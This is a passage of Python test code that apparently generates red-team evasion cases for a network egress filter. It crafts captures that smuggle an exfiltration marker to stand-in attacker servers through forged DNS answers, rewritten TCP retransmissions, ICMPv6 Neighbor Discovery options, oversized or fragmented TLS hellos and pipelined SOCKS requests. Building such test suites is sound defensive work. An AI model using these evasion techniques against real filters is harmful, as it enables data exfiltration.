def case_dns_tcp_forged_first_split(n):
    """MSS 48 again; the accomplice's whole forged answer comes first, as the next bytes
    (the client takes it), then the resolver's true answer in 48-byte segments at the same
    place (old data to the client; split, so it cannot be compared). The forgery taught;
    the true answer, which contradicts it, was never read. Now old bytes of a resolver
    flow that hold no whole message take back what the flow's answers taught. Must drop
    the TLS session to the forged address."""
    cap = Capture()
    qid = 0x3619
    t = dns_tcp_conn(cap, 43619, qid, mss=48)
    s0 = t.sseq
    fake = dns_tcp_answer(qid, ATK)
    t.raw(False, "PA", fake, seq=s0, gap=200)
    t.sseq = s0 + len(fake)
    t.raw(True, "A")
    real = dns_tcp_answer(qid, E2M)
    for i in range(0, len(real), 48):
        t.raw(False, "PA", real[i:i + 48], seq=s0 + i, gap=200)
    t.raw(True, "A")
    cap.idle(0.05)
    tls_flow(cap, S1, 43620, ATK, qid, n, send_whole(hello(n)), leak(n))
    return cap, {"leak": [leak(n)]}


@case
def case_dns_forged_race(n):
    """dns_forged_learn with the TLS session to the forged address opened before the
    resolver's true answer comes: allowed (as e2m, by the address the forgery taught)
    until then; the conflict takes the address back and every worker judges again the
    flows allowed through learned addresses (judge_relearn): the exfil record after it
    must not pass."""
    cap = Capture()
    q = bytes(DNS(id=0x2202, rd=1, qd=DNSQR(qname=E2M_NAME, qtype="A")))
    udp(cap, S1, 43007, RESOLVER, 53, q)
    udp(cap, RESOLVER, 53, S1, 43007, forged_dns_answer(0x2202, E2M_NAME, ATK), gap=1000)
    t = ETcp(cap, S1, 43008, ATK, 443, isn=0x2202, rtt_us=2000)
    t.handshake()
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    udp(cap, RESOLVER, 53, S1, 43007, forged_dns_answer(0x2202, E2M_NAME, E2M), gap=1000)
    cap.idle(0.1)
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n))
    t.data(False, tls_appdata(n + "resp", 300))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_dns_learn_ok(n):
    """Honest twin: the resolver's one answer gives the e2m name a new address (outside the
    configured /28); a session there with the e2m name is allowed."""
    cap = Capture()
    dns_learn_flow(cap, 43003, 0x2203, [forged_dns_answer(0x2203, E2M_NAME, ATK_OK)])
    cap.idle(0.05)
    tls_flow(cap, S1, 43004, ATK_OK, 2203, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)]}


@case
def case_dns_learn_dup_ok(n):
    """Honest twin: the same answer twice (a duplicated datagram); a session is allowed."""
    cap = Capture()
    a = forged_dns_answer(0x2205, E2M_NAME, ATK_OK)
    dns_learn_flow(cap, 43005, 0x2205, [a, a])
    cap.idle(0.05)
    tls_flow(cap, S1, 43006, ATK_OK, 2205, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)]}


@open_case
def case_smtp_loss_rewrite(n):
    """SMTP before STARTTLS (no header log): after the greeting, EHLO and MAIL FROM (the
    relay's answers close the first-bytes slot), a NOOP line passes
    us and is lost on the way on; the same sequence number then carries an SSH banner and
    binary packet (to us a retransmission: forwarded unread)."""
    cap = Capture()
    t = ETcp(cap, S1, 43010, MAIL, 25, isn=2210, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, b"MAIL FROM:<declarant@e2m.customs.example>\r\n")
    t.data(False, b"250 2.1.0 Ok\r\n")
    base = t.cseq
    swap = SSH_BANNER + ssh_binary(n, leak(n))
    noop = b"NOOP " + b"x" * (len(swap) - 7) + b"\r\n"
    assert len(noop) == len(swap)
    t.raw(True, "PA", noop, seq=base)
    t.raw(True, "PA", swap, seq=base, gap=300000)
    t.cseq = base + len(swap)
    t.raw(False, "A")
    t.data(False, b"250 2.0.0 Ok\r\n")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_smtp_resend_ok(n):
    """Honest twin: after the first-bytes slot closed (as in smtp_loss_rewrite), a
    command line lost after us, sent again byte for byte (and once more
    as part of a longer segment with the next command)."""
    cap = Capture()
    t = ETcp(cap, S1, 43011, MAIL, 25, isn=2211, rtt_us=4000)
    t.handshake()
    smtp_start(t, False)
    t.data(True, b"NOOP\r\n")
    t.data(False, b"250 2.0.0 Ok\r\n")
    base = t.cseq
    l1 = b"MAIL FROM:<declarant@e2m.customs.example>\r\n"
    l2_ = b"RCPT TO:<office@customs.example>\r\n"
    t.raw(True, "PA", l1, seq=base)
    t.raw(True, "PA", l1, seq=base, gap=300000)
    t.raw(True, "PA", l1 + l2_, seq=base, gap=300000)
    t.cseq = base + len(l1) + len(l2_)
    t.raw(False, "A")
    t.data(False, b"250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n")
    for c, s in ((b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
                 (b"Subject: declaration\r\n\r\n" + passm(n) + b"\r\n.\r\n", b"250 2.0.0 Ok: queued\r\n"),
                 (b"QUIT\r\n", b"221 2.0.0 Bye\r\n")):
        t.data(True, c)
        t.data(False, s)
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_dnstcp_loss_rewrite(n):
    """DNS over TCP: after a genuine query and answer, a second query passes us and is
    lost on the way on; the same sequence number then carries a message length and bytes
    of no DNS (to us a retransmission: forwarded unread until the twenty-fourth session,
    when DNS flows over TCP took a header log of every byte their reading depends on)."""
    cap = Capture()
    t = ETcp(cap, S1, 43012, RESOLVER, 53, isn=2212, rtt_us=4000)
    t.handshake()
    q, a = dns_pair(E2M_NAME, "A", 0x2212, E2M)
    t.data(True, q)
    t.data(False, a)
    q2, a2 = dns_pair("www.e2m.customs.example", "A", 0x2213, E2M)
    body = leak(n) + prand(n, len(q2) - 2 - len(leak(n)))
    swap = struct.pack("!H", len(body)) + body
    assert len(swap) == len(q2)
    base = t.cseq
    t.raw(True, "PA", q2, seq=base)
    t.raw(True, "PA", swap, seq=base, gap=300000)
    t.cseq = base + len(q2)
    t.raw(False, "A")
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_dnstcp_resend_ok(n):
    """Honest twin: a query over TCP lost after us and sent again byte for byte."""
    cap = Capture()
    t = ETcp(cap, S1, 43013, RESOLVER, 53, isn=2213, rtt_us=4000)
    t.handshake()
    q, a = dns_pair(E2M_NAME, "A", 0x2214, E2M)
    t.data(True, q)
    t.data(False, a)
    q2, a2 = dns_pair("www.e2m.customs.example", "A", 0x2215, E2M)
    base = t.cseq
    t.raw(True, "PA", q2, seq=base)
    t.raw(True, "PA", q2, seq=base, gap=300000)
    t.cseq = base + len(q2)
    t.raw(False, "A")
    t.data(False, a2)
    t.close()
    return cap, {"pass": [q2, a2]}


# IPv6 neighbour discovery is forwarded unjudged (judge_packet: parse_is_nd), whatever
# its addresses, hop limit, length or options: an ICMPv6 type 133..137 datagram to a
# global address outside is routed like any other, and carries any bytes.

ATK6 = "2001:db8:ffff::66"   # the attacker's server, outside (no endpoint)


def nd_big_opt(marker, seed, n=1000):
    """An ND option of an unassigned type (253: RFC 4727 experimental), n bytes (8k)."""
    body = marker + prand(seed, n - 2 - len(marker))
    return bytes([253, n // 8]) + body


def nd_carrier6(cap, cport, isn):
    """A TCP SYN from the strict-zone host to the attacker's address: refused at its first
    packet (default drop); the line that scores the case."""
    t = ETcp(cap, S6, cport, ATK6, 443, isn=isn, rtt_us=4000)
    t.raw(True, "S")
    return t


@case
def case_nd_exfil(n):
    """Strict zone: the host sends the attacker's server (a global address outside) ICMPv6
    Neighbor Advertisements, Solicitations, Router Solicitations and Redirects, each with
    a 1000-byte option holding the exfil marker (routers forward them by destination like
    any datagram; the attacker reads them raw). Its TCP to the same address is refused."""
    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RS, ICMPv6ND_Redirect
    cap = Capture()
    nd_carrier6(cap, 43020, 2220)
    for i, icmp in enumerate((ICMPv6ND_NA(tgt=S6, R=0, S=0, O=1), ICMPv6ND_NS(tgt=ATK6),
                              ICMPv6ND_RS(), ICMPv6ND_Redirect(tgt=S6, dst=ATK6))):
        pkt = IPv6(src=S6, dst=ATK6, hlim=255) / icmp / Raw(nd_big_opt(leak(n), "%s%d" % (n, i)))
        cap.emit(l2(S6, ATK6) / pkt, 2000)
    return cap, {"leak": [leak(n)]}


@case
def case_nd_inbound(n):
    """Strict zone, the other way (a command channel): the attacker's server sends the
    host Neighbor Advertisements with a 1000-byte option (hop limit 64: they crossed
    routers). The strict zone drops inbound flows; its host's TCP there is refused."""
    from scapy.layers.inet6 import ICMPv6ND_NA
    cap = Capture()
    nd_carrier6(cap, 43021, 2221)
    for i in range(3):
        pkt = (IPv6(src=ATK6, dst=S6, hlim=64) / ICMPv6ND_NA(tgt=ATK6, R=0, S=1, O=1)
               / Raw(nd_big_opt(leak(n), "%s%d" % (n, i))))
        cap.emit(l2(ATK6, S6) / pkt, 2000)
    return cap, {"leak": [leak(n)]}


@case
def case_nd_ok(n):
    """Honest twin: the strict-zone host resolves its router (a Neighbor Solicitation to the
    solicited-node multicast address, hop limit 255, with its link-layer address and a
    nonce option, RFC 3971, that holds the PASS marker), the router's Neighbor
    Advertisement back, a Router Solicitation to all-routers; then an e2m session over IPv6."""
    from scapy.layers.inet6 import ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RS, ICMPv6NDOptSrcLLAddr
    cap = Capture()
    gw = "2001:db8:e2::1"
    nonce = bytes([14, 2]) + passm(n)[:14].ljust(14, b"-")
    ns = (IPv6(src=S6, dst="ff02::1:ff00:1", hlim=255) / ICMPv6ND_NS(tgt=gw)
          / ICMPv6NDOptSrcLLAddr(lladdr=rt_host_mac(S6)) / Raw(nonce))
    cap.emit(Ether(src=rt_host_mac(S6), dst="33:33:ff:00:00:01") / ns, 2000)
    na = IPv6(src="fe80::1", dst=S6, hlim=255) / ICMPv6ND_NA(tgt=gw, R=1, S=1, O=1)
    cap.emit(Ether(src="02:00:00:00:fe:01", dst=rt_host_mac(S6)) / na, 2000)
    rs = IPv6(src=S6, dst="ff02::2", hlim=255) / ICMPv6ND_RS() / ICMPv6NDOptSrcLLAddr(lladdr=rt_host_mac(S6))
    cap.emit(Ether(src=rt_host_mac(S6), dst="33:33:00:00:00:02") / rs, 2000)
    tls_flow(cap, S6, 43022, E2M6, 2222, n, send_whole(hello(n)), passm(n))
    return cap, {"pass": [passm(n)[:14]]}


def rt_host_mac(addr):
    import hashlib
    h = hashlib.sha256(addr.encode()).digest()
    return "02:%02x:%02x:%02x:%02x:%02x" % tuple(h[:5])


# UDP 68 -> 67 from a source in no zone (red team round 21): run.sh's replay puts such a frame
# on the outside port, so tests/unit/test_parse.c holds parse_is_link_service to 0.0.0.0 ->
# 255.255.255.255 instead.


# The header log holds 256 headers a direction; a segment that alone has more is read with
# its last headers unlogged (judge_conform_read, n0 == 0: hlog_jumbo_ok). No jumbo frame is
# needed for that: application-data records of 0 bytes (conform_tls_header lets type 23 be
# empty) are 5 bytes each, 292 of them in one 1460-byte segment.

@case
def case_hlog_empty_rewrite(n, k=292):
    """After an allowed e2m session whose bytes the server acknowledged, one 1460-byte DF
    segment of 292 empty application-data records (the log takes 256 of their headers, the
    last 36 are read and not logged), lost after us; the client sends the same 256 records
    and then plaintext HTTP at the place of the other 36: the bytes compared all agree."""
    cap = Capture()
    t = tls_established(cap, S1, 43030, E2M, 2230, n)
    base = t.cseq
    recs = b"\x17\x03\x03\x00\x00" * k
    http = http_leak(n)
    keep = 5 * (256 if k > 256 else k // 2)
    assert len(http) <= len(recs) - keep
    copy2 = recs[:keep] + http + b"x" * (len(recs) - keep - len(http))
    t.raw(True, "PA", recs, seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", copy2, seq=base, gap=200000, ipkw={"flags": "DF"})
    t.cseq = base + len(recs)
    t.raw(False, "A")
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hlog_empty_rw_ctl(n):
    """Control: 250 empty records (the log holds every header), the same rewrite: refused."""
    return case_hlog_empty_rewrite(n, k=250)


@case
def case_hlog_small_resend_ok(n):
    """Honest twin: Nagle-coalesced small records (66 records of 22 bytes in one segment),
    the segment lost after us and sent again byte for byte, then a marked record."""
    cap = Capture()
    t = tls_established(cap, S1, 43031, E2M, 2231, n)
    base = t.cseq
    recs = small_records(n, 66, 17)
    t.raw(True, "PA", recs, seq=base, ipkw={"flags": "DF"})
    t.raw(True, "PA", recs, seq=base, gap=200000, ipkw={"flags": "DF"})
    t.cseq = base + len(recs)
    t.raw(False, "A")
    t.data(True, marked_record(passm(n), n + "after", 40))
    t.data(False, tls_appdata(n + "more", 120))
    t.close()
    return cap, {"pass": [passm(n)]}


# ---------------------------------------------------------------------------
# Red team round 23 (office zone), 52 cases, ports 44001-44105 (paste before
# `def main` in tests/evasion/gen.py; lines in /tmp/rt23_exp.tsv).
#  - names past a reader's bound: a 17 KB ClientHello (tls_ch_names reads
#    nothing past TLS_CH_MAX), an HTTP head whose Host lies past HS_SCAN_MAX
#    (2048) cut by a segment boundary, or past the 16 KiB slot;
#  - the HelloRetryRequest watch (judge_hrr_watch): a first hello our reader
#    refuses (office allows the exception, no slot kept), a server HRR
#    fragmented over records, a second hello pipelined behind an alert or
#    early data (judge_hello_tail stops there), a low-TTL second-hello decoy;
#  - insertion before the verdict in the office (TTL 1, TCP-MD5 decoys);
#  - the classify budget: bare ACKs / keep-alive probes / idle time before the
#    first payload (SSH, SOCKS, TLS), UDP junk before DHT;
#  - proxy signatures: SOCKS5 greeting+CONNECT pipelined, SOCKS4 + data, long
#    SOCKS4 user id, h2c CONNECT; AnyDesk's ALPN in a split hello;
#  - QUIC HelloRetryRequest (a false block);
#  and must-allow twins (*_ok) and controls (*_ctl).
# ---------------------------------------------------------------------------

def rt_send_mss(t, data, mss=1448, from_client=True):
    """data in MSS-sized segments, each acknowledged by the peer."""
    for i in range(0, len(data), mss):
        t.data(from_client, data[i:i + mss])


def rt_big_hs(seed, sni, pad_len, sni_first=False, sid=None):
    """A ClientHello whose padding extension (21) is pad_len bytes; the
    server_name extension after it (or first with sni_first)."""
    pad = ext(21, b"\x00" * pad_len)
    s = sni_ext([sni_entry(sni.encode())])
    exts = ([s, pad] if sni_first else [pad, s]) + std_exts(seed) + [alpn_ext()]
    return hs_client_hello(seed, sid=sid, exts=exts)


def rt_records(msg, size=16384, version=0x0301):
    """A handshake message in records of at most `size` bytes."""
    return b"".join(record(22, msg[i:i + size], version) for i in range(0, len(msg), size))


def rt_big_flow(n, cport, isn, sni, mark, pad_len=17000, sni_first=False, version=0x0301):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
    t.handshake()
    rt_send_mss(t, rt_records(rt_big_hs(n, sni, pad_len, sni_first), version=version))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_big_hello_vk(n):
    """Office: a 17 KB ClientHello (padding first, then server_name m.vk.com) in two
    records of 16384 and ~700 bytes. OpenSSL takes hellos up to 128 KiB across records
    (Go 64 KiB). Our reader refuses it as too_long (an exception the office allows);
    tls_ch_names refuses to read past the same bound, so no name is looked up; nDPI
    sees a truncated hello in the first record. Must drop (social or refused)."""
    return rt_big_flow(n, 44001, 4401, VK, leak(n)), {"leak": [leak(n)]}


@case
def case_big_hello_sni1_vk(n):
    """The same, server_name first (in the first record), padding after it."""
    return rt_big_flow(n, 44002, 4402, VK, leak(n), sni_first=True), {"leak": [leak(n)]}


@case
def case_big_hello_fb(n):
    """The same for www.facebook.com, server_name first (nDPI's host table)."""
    return rt_big_flow(n, 44003, 4403, FB, leak(n), sni_first=True), {"leak": [leak(n)]}


@case
def case_big_hello_over(n):
    """The red team's must-allow twin of big_hello_vk (the same 17 KB hello for
    www.example.org): refused whatever the zone does. A hello longer than the 16 KiB
    our reader holds names what we cannot read; no browser sends one (a post-quantum
    key share adds about 1.2 KB)."""
    return rt_big_flow(n, 44004, 4404, "www.example.org", leak(n)), {"leak": [leak(n)]}


def rt_big_http(n, cport, isn, host, mark, cookie=6000, ncookie=3, host_first=False):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 80, isn=isn, rtt_us=20000)
    t.handshake()
    head = b"GET / HTTP/1.1\r\n" + (b"Host: " + host + b"\r\n" if host_first else b"")
    head += b"User-Agent: Mozilla/5.0\r\n"
    for i in range(ncookie):
        head += b"Cookie: c%d=" % i + b"a" * cookie + b"\r\n"
    if not host_first:
        head += b"Host: " + host + b"\r\n"
    head += b"X-Mark: " + mark + b"\r\nAccept: */*\r\n\r\n"
    rt_send_mss(t, head)
    t.data(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n" + mark + b"x" * 20)
    t.close()
    return cap


@case
def case_http_big_vk(n):
    """Office HTTP: three 6 KB Cookie lines (nginx takes 4 x 8 KB of header lines,
    Apache 8 KB per line), then Host: m.vk.com past 16 KiB: the head is read from the
    slot only as far as it holds (judge_http_head), nDPI reads the first segment."""
    return rt_big_http(n, 44011, 4411, b"m.vk.com", leak(n)), {"leak": [leak(n)]}


@case
def case_http_big_late(n):
    """The red team's must-allow twin of http_big_vk (the same head for
    www.example.org): refused whatever the zone does. A head longer than the 16 KiB we
    hold whose Host line lies past them names a host we cannot read; browsers and curl
    send Host first (http_big_first_ok)."""
    return rt_big_http(n, 44012, 4412, b"www.example.org", leak(n)), {"leak": [leak(n)]}


@case
def case_http_big_first_ok(n):
    """Must allow: 18 KB of cookies after the Host line (www.example.org), as browsers
    order a head."""
    return rt_big_http(n, 44013, 4413, b"www.example.org", passm(n), host_first=True), \
        {"pass": [passm(n)]}


def rt_hrr_custom(n, cport, isn, ch1, name2, mark, sid=None):
    """hrr() with a hand-made first hello (record bytes ch1)."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, ch1)
    t.data(False, hrr_flight(n))
    pad = ext(21, mark + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni=name2, sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_dot_vk(n):
    """Office: the first hello names www.example.org. (trailing dot: our reader refuses
    it, the office allows the exception, the flow is allowed and its slot closed:
    judge_hrr_watch wants a hello read whole); the server's HRR; the second hello names
    m.vk.com (OpenSSL reads the new name). Must drop."""
    return rt_hrr_custom(n, 44021, 4421, hello(n, sni="www.example.org."), "m.vk.com", leak(n)), \
        {"leak": [leak(n)]}


@case
def case_hrr_dot_twice(n):
    """Both hellos name www.example.org. (trailing dot, which RFC 6066 rules out and our
    reader refuses): the red team's must-allow twin of hrr_dot_vk. Refused whatever the
    zone does: neither hello can be read, so the second cannot be judged by its name
    (judge_hello2). A cost accepted: no browser sends a trailing dot."""
    return rt_hrr_custom(n, 44022, 4422, hello(n, sni="www.example.org."), "www.example.org.",
                         leak(n)), {"leak": [leak(n)]}


def rt_many_ext_hello(seed, sni, count=70):
    """A ClientHello with `count` extensions (unknown private types 0xff00+i
    with no data, ignored by servers): over TLS_CH_MAX_EXT (64)."""
    exts = [sni_ext([sni_entry(sni.encode())])] + std_exts(seed)
    exts += [ext(0xfe00 + i, b"") for i in range(count - len(exts) - 1)] + [alpn_ext()]
    return record(22, hs_client_hello(seed, exts=exts))


@case
def case_hrr_ext70_vk(n):
    """Office: the first hello has 70 extensions (too_many_extensions: an exception the
    office allows; OpenSSL ignores unknown ones), www.example.org; HRR; the second
    hello names m.vk.com. Must drop."""
    return rt_hrr_custom(n, 44023, 4423, rt_many_ext_hello(n, "www.example.org"), "m.vk.com",
                         leak(n)), {"leak": [leak(n)]}


@case
def case_hrr_alert_vk(n):
    """Office: the first hello for www.example.org in two records with a warning alert
    (user_canceled) between (record_type: refused, the office allows), HRR, then the
    second hello for m.vk.com. Must drop."""
    m = hs_client_hello(n, sni="www.example.org")
    cut = 60
    ch1 = record(22, m[:cut]) + b"\x15\x03\x03\x00\x02\x01\x5a" + record(22, m[cut:])
    return rt_hrr_custom(n, 44024, 4424, ch1, "m.vk.com", leak(n)), {"leak": [leak(n)]}


def rt_hrr_pipe(n, cport, isn, between, name2, mark):
    """The first hello for www.example.org, then at once `between` and the
    client's ChangeCipherSpec and second hello for name2 (mark in its padding),
    before the HRR."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 443, isn=isn, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.send(True, ch1)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, mark + b"\x00" * 40)
    t.send(True, between + CCS + hello(n, sni=name2, sid=sid, extra=[pad]), gap=1000)
    t.ack(False)
    t.data(False, hrr_flight(n))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap


@case
def case_hrr_pipe_alert_vk(n):
    """Office: hrr_pipe_front's pipelining with a warning alert (user_canceled) ahead of
    the ChangeCipherSpec: judge_hello_tail walks CCS records only and stops at the
    alert, so the second hello (m.vk.com) goes out before the HRR. Must drop, and the
    second hello (its padding holds the marker) must not pass."""
    return rt_hrr_pipe(n, 44025, 4425, b"\x15\x03\x03\x00\x02\x01\x5a", "m.vk.com", leak(n)), \
        {"leak": [leak(n)]}


@case
def case_hrr_pipe_early_vk(n):
    """The same with an application_data record (0-RTT early data) ahead of it."""
    return rt_hrr_pipe(n, 44026, 4426, record(23, prand(n + "ed", 64), 0x0303), "m.vk.com", leak(n)), \
        {"leak": [leak(n)]}


def rt_hrr_frag_flight(seed, cut):
    """hrr_flight with the HRR message cut over two handshake records at `cut`
    (RFC 8446 5.1: handshake messages may be fragmented across records)."""
    whole = hrr_flight(seed)
    msg = whole[5:len(whole) - len(CCS)]
    return record(22, msg[:cut], 0x0303) + record(22, msg[cut:], 0x0303) + CCS


@case
def case_hrr_srvfrag_vk(n):
    """Office: HRR split over two records by the server (its random not contiguous in the
    stream); the second hello names m.vk.com. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44027, SOC, 443, isn=4427, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.data(True, ch1)
    t.data(False, rt_hrr_frag_flight(n, 10))
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, leak(n) + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni="m.vk.com", sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_hrr_srvfrag1_vk(n):
    """Office: hrr_srvfrag_vk with the server's HRR in one-byte handshake records up to
    past its random (RFC 8446 5.1 allows any fragmentation; 38 records, each read in
    turn), in one segment; the second hello names m.vk.com. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 44095, SOC, 443, isn=4495, rtt_us=20000)
    t.handshake()
    ch1 = hello(n, sni="www.example.org")
    t.data(True, ch1)
    whole = hrr_flight(n)
    msg = whole[5:len(whole) - len(CCS)]
    recs = b"".join(record(22, msg[i:i + 1], 0x0303) for i in range(40)) + record(22, msg[40:], 0x0303)
    t.data(False, recs + CCS)
    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
    pad = ext(21, leak(n) + b"\x00" * 40)
    t.data(True, CCS + hello(n, sni="m.vk.com", sid=sid, extra=[pad]))
    t.data(False, server_hello_flight(n))
    t.data(True, tls_appdata(n + "fin", 53))
    t.data(True, marked_record(leak(n), n + "req"))
    t.data(False, tls_appdata(n + "resp", 400))
    t.close()
    return cap, {"leak": [leak(n)]}


def rt_socks5_pipe(n, cport, isn, inner, mark, dport=1080, split_reply=True):
    """SOCKS5 with the method greeting and the CONNECT request in one segment
    (ssh -D's channel_decode_socks5 and Dante read both from the stream), the
    tunnelled TLS hello for `inner`."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(inner)]) + inner.encode() + b"\x01\xbb")
    rep = b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb"
    if split_reply:
        t.data(False, b"\x05\x00")
        t.data(False, rep)
    else:
        t.data(False, b"\x05\x00" + rep)
    t.data(True, hello(n, sni=inner, sid=sid32(mark)))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n))
    t.close()
    return cap


@case
def case_socks5_pipe(n):
    """Office: SOCKS5 to port 1080, greeting 05 01 00 and CONNECT www.example.org:443 in
    one 21-byte segment: proxy.sig's SOCKS5 line wants the payload to be exactly the
    greeting (len=u8@1+2), nDPI 4.2 wants 3 bytes. Must drop (proxy)."""
    return rt_socks5_pipe(n, 44031, 4431, "www.example.org", leak(n)), {"leak": [leak(n)]}


@case
def case_socks5_pipe_vk(n):
    """The same, CONNECT m.vk.com and the tunnelled hello for m.vk.com: proxy or social."""
    return rt_socks5_pipe(n, 44032, 4432, VK, leak(n)), {"leak": [leak(n)]}


@case
def case_socks5_pipe_1rep(n):
    """rt_socks5_pipe with both server replies in one segment."""
    return rt_socks5_pipe(n, 44033, 4433, "www.example.org", leak(n), split_reply=False), \
        {"leak": [leak(n)]}


def rt_socks4(n, cport, isn, req, mark, pipe=False, dport=1080):
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, dport, isn=isn, rtt_us=20000)
    t.handshake()
    h = hello(n, sni="www.example.org", sid=sid32(mark))
    if pipe:
        t.data(True, req + h)
        t.data(False, b"\x00\x5a\x01\xbb" + bytes([203, 0, 113, 71]))
    else:
        t.data(True, req)
        t.data(False, b"\x00\x5a\x01\xbb" + bytes([203, 0, 113, 71]))
        t.data(True, h)
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n))
    t.close()
    return cap


S4A = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"user\x00" + b"www.example.org\x00"


@case
def case_socks4_ctl(n):
    """Control: SOCKS4a CONNECT www.example.org:443 alone in its segment: proxy."""
    return rt_socks4(n, 44034, 4434, S4A, leak(n)), {"leak": [leak(n)]}


@case
def case_socks4_pipe(n):
    """Office: the SOCKS4a request and the tunnelled ClientHello in one segment (ssh -D's
    channel_decode_socks4 consumes the request and keeps the rest for the channel):
    proxy.sig's SOCKS4 line is anchored at the payload's end (\\z), nDPI 4.2 wants the
    packet to end in NUL. Must drop (proxy)."""
    return rt_socks4(n, 44035, 4435, S4A, leak(n), pipe=True), {"leak": [leak(n)]}


@case
def case_socks4_longuid(n):
    """Office: SOCKS4a with a 100-byte user id (ssh -D reads up to 1024 bytes, Dante
    takes it): the signature allows 64. Must drop (proxy)."""
    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"u" * 100 + b"\x00" + b"www.example.org\x00"
    return rt_socks4(n, 44036, 4436, req, leak(n)), {"leak": [leak(n)]}


@case
def case_socks4_longuid_p(n):
    """rt_socks4_longuid with the tunnelled hello in the request's segment."""
    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"u" * 100 + b"\x00" + b"www.example.org\x00"
    return rt_socks4(n, 44037, 4437, req, leak(n), pipe=True), {"leak": [leak(n)]}


def rt_socks5_raw(n, cport, isn, first, mark, replies):
    """SOCKS5 to port 1080: the client's first segment `first` (greeting and what it
    pipelines), the server's replies, then the tunnelled hello for www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, cport, SOC, 1080, isn=isn, rtt_us=20000)
    t.handshake()
    t.data(True, first)
    for rep in replies:
        t.data(False, rep)
    t.data(True, hello(n, sni="www.example.org", sid=sid32(mark)))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.data(True, marked_record(mark, n))
    t.close()
    return cap


S5_REQ = b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb"
S5_REP = b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb"


@case
def case_socks5_m12(n):
    """Office: a SOCKS5 greeting offering 12 methods (0-9, 0x80, 0x81: RFC 1928 lets a
    client offer up to 255; Dante and ssh -D pick the one they take) alone in its
    segment, then the request: proxy.sig wanted at most 9. Must drop (proxy)."""
    g = b"\x05\x0c" + bytes(range(10)) + b"\x80\x81"
    cap = Capture()
    t = ETcp(cap, O1, 44096, SOC, 1080, isn=4496, rtt_us=20000)
    t.handshake()
    t.data(True, g)
    t.data(False, b"\x05\x00")
    t.data(True, S5_REQ)
    t.data(False, S5_REP)
    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
    t.data(False, server_hello_flight(n))
    t.data(True, marked_record(leak(n), n))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_socks5_userpass_pipe(n):
    """Office: SOCKS5 greeting (user/password), the RFC 1929 subnegotiation and the
    CONNECT request pipelined in one segment (Dante reads them in turn from the
    stream). Must drop (proxy)."""
    first = b"\x05\x01\x02" + b"\x01\x05alice\x06s3cret" + S5_REQ
    return rt_socks5_raw(n, 44097, 4497, first, leak(n), [b"\x05\x02", b"\x01\x00", S5_REP]), \
        {"leak": [leak(n)]}


@case
